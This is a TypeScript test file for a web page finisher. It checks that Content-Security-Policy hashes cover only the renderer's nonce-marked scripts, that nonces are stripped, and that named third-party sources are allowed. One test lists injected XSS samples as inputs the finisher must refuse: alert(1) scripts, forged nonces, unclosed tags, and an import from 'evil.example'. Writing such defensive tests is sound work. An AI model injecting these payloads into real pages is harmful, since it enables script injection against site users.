import { createHash } from 'node:crypto'
import { expect, test } from 'vitest'
import { bodyIn, finishPage, scriptHashes } from './finished-page.ts'

const page = { status: 200, html: '<html></html>', headers: {}, nonce: 'mark' }

test('a page carries the hashes of exactly the scripts that its renderer put there', async () => {
  const html =
    '<script class="$tsr" nonce="mark">run()</script><script nonce="mark" src="/a.js"></script>' +
    '<script nonce="mark" type="application/ld+json">{}</script>'
  expect(scriptHashes(html, 'mark')).toHaveLength(1)
  const { headers } = await finishPage({ ...page, html })
  expect(headers['content-security-policy']).toContain(scriptHashes(html, 'mark')[0])
  expect(headers['content-security-policy']).not.toContain("script-src 'self' 'unsafe-inline'")
})

test('a script is hashed as it stands between its tags, each text once', () => {
  const script = (text: string) => `<script class="$tsr" nonce="mark">${text}</script>`
  const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
  const html = `${script('ñ < 1')}<p>between</p>${script('run()')}${script('ñ < 1')}`
  expect(scriptHashes(html, 'mark')).toEqual([hashOf('ñ < 1'), hashOf('run()')])
})

test('a script that slipped in with the words of a product gets no hash, whatever it looks like', async () => {
  const own = '<script nonce="mark">run()</script>'
  const [registered] = scriptHashes(own, 'mark')
  for (const hostile of [
    '<script>alert(1)</script>',
    '<script nonce="">alert(1)</script>',
    '<script nonce="other">alert(1)</script>',
    '<script nonce=mark>alert(1)</script>'.replace('mark', 'guess'),
    '<script type=module>import("//evil.example")</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    // Left open, it would swallow what comes after it.
    '<script>alert(1)',
    '<script data-x="',
    '<script ',
  ]) {
    const rendered = `<html><head><link rel="icon" nonce="mark"></head><p>${hostile}</p>${own}</html>`
    const hashes = scriptHashes(rendered, 'mark')
    expect([hostile, hashes.filter((hash) => hash !== registered)]).toEqual([hostile, []])
  }
})

test('the mark of a render never leaves the server', async () => {
  const html =
    '<html><head><meta property="csp-nonce" content="mark"/><link nonce="mark" rel="icon"></head><script nonce="mark">run()</script></html>'
  const finished = await finishPage({ ...page, html })
  expect((await bodyIn(finished, 'identity')).toString()).toBe(
    '<html><head><link rel="icon"></head><script>run()</script></html>',
  )
  expect(JSON.stringify(finished.headers)).not.toContain('mark')
})

test('a page lets in whom it names and no one else', async () => {
  const plain = (await finishPage(page)).headers
  expect(plain['content-security-policy']).toContain("connect-src 'self';")
  expect(plain['content-security-policy']).toContain("style-src 'self';")
  expect(plain['cross-origin-opener-policy']).toBe('same-origin')

  const sources = {
    script: ['https://pay.test'],
    connect: ['https://api.pay.test'],
    frame: ['https://window.pay.test'],
    opensWindow: true,
    writesStyles: true,
  }
  const { headers } = await finishPage({ ...page, sources })
  const policy = headers['content-security-policy']
  expect(policy).toMatch(/script-src 'self'[^;]* https:\/\/pay\.test;/)
  expect(policy).toContain("connect-src 'self' https://api.pay.test;")
  expect(policy).toMatch(/frame-src [^;]*https:\/\/window\.pay\.test;/)
  expect(policy).toContain("style-src 'self' 'unsafe-inline';")
  expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups')
})
